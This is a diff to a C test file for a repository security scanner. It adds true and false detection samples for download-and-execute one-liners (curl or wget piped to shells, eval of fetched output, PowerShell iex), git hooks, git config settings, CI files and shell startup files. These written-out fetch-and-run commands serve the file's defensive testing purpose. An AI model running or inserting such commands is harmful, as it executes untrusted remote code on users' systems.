@@ -216,12 +216,53 @@ static const struct sample samples[] = {
     {"download_and_execute", true, "s.sh", "curl -fsSL https://cdn.example.com/www/install | sh\n", NULL},
     {"download_and_execute", true, "s.sh", "curl -o a https://x/a; curl https://x/b | zsh\n", NULL},
     {"download_and_execute", true, "s.sh", "curl https://x.example/wget.sh | sh\n", NULL},
+    /* forms that went past an earlier pattern (breakscan) */
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | sh; echo done\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i|sh&&echo\n", NULL},
+    {"download_and_execute", true, "s.sh", "(curl -fsSL https://x/i | sh)\n", NULL},
+    {"download_and_execute", true, "s.sh", "x=`curl -fsSL https://x/i | sh`\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i \\\n  | bash\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i |& bash\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | tee /dev/stderr | sh\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | env bash\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | sudo -u root bash\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | busybox sh\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | fish\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | php\n", NULL},
+    {"download_and_execute", true, "s.sh", "eval \"$(curl -fsSL https://x/i)\"\n", NULL},
+    {"download_and_execute", true, "s.sh", "source <(curl -fsSL https://x/i)\n", NULL},
+    {"download_and_execute", true, "s.sh", ". <(wget -qO- https://x/i)\n", NULL},
+    {"download_and_execute", true, "s.sh", "bash -c \"`curl -fsSL https://x/i`\"\n", NULL},
+    {"download_and_execute", true, "s.sh", "sh -c '$(curl -fsSL https://x/i)'\n", NULL},
+    {"download_and_execute", true, "s.sh", "bash <<< \"$(curl -fsSL https://x/i)\"\n", NULL},
+    {"download_and_execute", true, "a.ps1", "irm https://x/i | iex\n", NULL},
+    {"download_and_execute", true, "a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://x/i')\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | sh\r\n", NULL},
+    {"download_and_execute", false, "s.sh", "curl -fsSL https://x/i | grep -q bash\n", NULL},
+    {"download_and_execute", false, "s.sh", "curl -fsSL https://x/i | tee shell.log\n", NULL},
+    {"download_and_execute", false, "s.sh", "version=$(curl -fsSL https://x/version)\n", NULL},
+    {"download_and_execute", false, "s.sh", "echo \"$(curl -fsSL https://x/version)\"\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -o out.tgz https://x.example/a.tgz\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -fsSL https://x.example/i | tee log\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -o i.sh https://x.example/i\n| sh is on the next line\n", NULL},
     {"git_hooks", true, ".git/hooks/pre-commit", "#!/bin/sh\n", NULL},
     {"git_hooks", true, "sub/.git/hooks/post-checkout", "#!/bin/sh\n", NULL},
     {"git_hooks", true, ".git/modules/m/hooks/pre-commit", "#!/bin/sh\n", NULL}, /* a submodule's */
+    {"git_hooks", true, ".GIT/Hooks/pre-commit", "#!/bin/sh\n", NULL}, /* case-insensitive file systems */
+    {"git_hooks", true, ".husky/pre-commit", "npm test\n", NULL},
+    {"git_config", true, ".git/config.worktree", "[core]\n\tfsmonitor = ./x\n", NULL},
+    {"git_config", true, ".git/worktrees/w/config.worktree", "[core]\n", NULL},
+    {"git_config", true, "sub/.git", "gitdir: ../not-a-repo\n", NULL}, /* a gitdir pointer file */
+    {"git_config", true, ".Git/Config", "[core]\n", NULL},
+    {"git_config", false, "sub/.gitignore", "*.o\n", NULL},
+    {"ci_definition", true, ".github/actions/setup/action.yml", "runs: {}\n", NULL},
+    {"ci_definition", true, ".GitHub/Workflows/ci.yml", "on: push\n", NULL},
+    {"ci_definition", true, ".drone.yml", "kind: pipeline\n", NULL},
+    {"ci_definition", false, ".github/CODEOWNERS", "* @a\n", NULL},
+    {"shell_startup", true, ".BASHRC", "x\n", NULL},
+    {"shell_startup", true, ".bash_aliases", "alias ls='x'\n", NULL},
+    {"shell_startup", true, ".config/fish/config.fish", "set x 1\n", NULL},
+    {"shell_startup", true, ".config/fish/conf.d/z.fish", "set x 1\n", NULL},
     {"git_hooks", false, ".git/HEAD", "ref: refs/heads/main\n", NULL},
     {"git_config", true, ".git/config", "[core]\n\thooksPath = scripts\n", NULL},
     {"git_config", true, "sub/.git/config", "[core]\n\tfsmonitor = ./x\n", NULL},
@@ -334,7 +375,8 @@ static void match_limit(void **state) {
   assert_int_equal(jb_scan_rules_load(NULL, &d, &err), 0);
   size_t n = 1024 * 1024;
   char *big = malloc(n);
-  static const char *const nearly[] = {"curl ", "curl -x cwcw ", "BEGIN ", "BEGIN RSA ", "AKIA", "ghp_", "sh <(", "xox", NULL};
+  static const char *const nearly[] = {"curl ", "curl -x cwcw ", "BEGIN ", "BEGIN RSA ", "AKIA", "ghp_", "sh <(", "xox",
+                                       "curl | sudo a b c d e f g ", "curl -s \\\n", "eval \"$(", "sh -c -x ", "iwr a ", "iex (", NULL};
   for (size_t k = 0; nearly[k]; k++) {
     size_t w = strlen(nearly[k]), m = n - n % w;
     for (size_t i = 0; i + w <= m; i += w) memcpy(big + i, nearly[k], w);
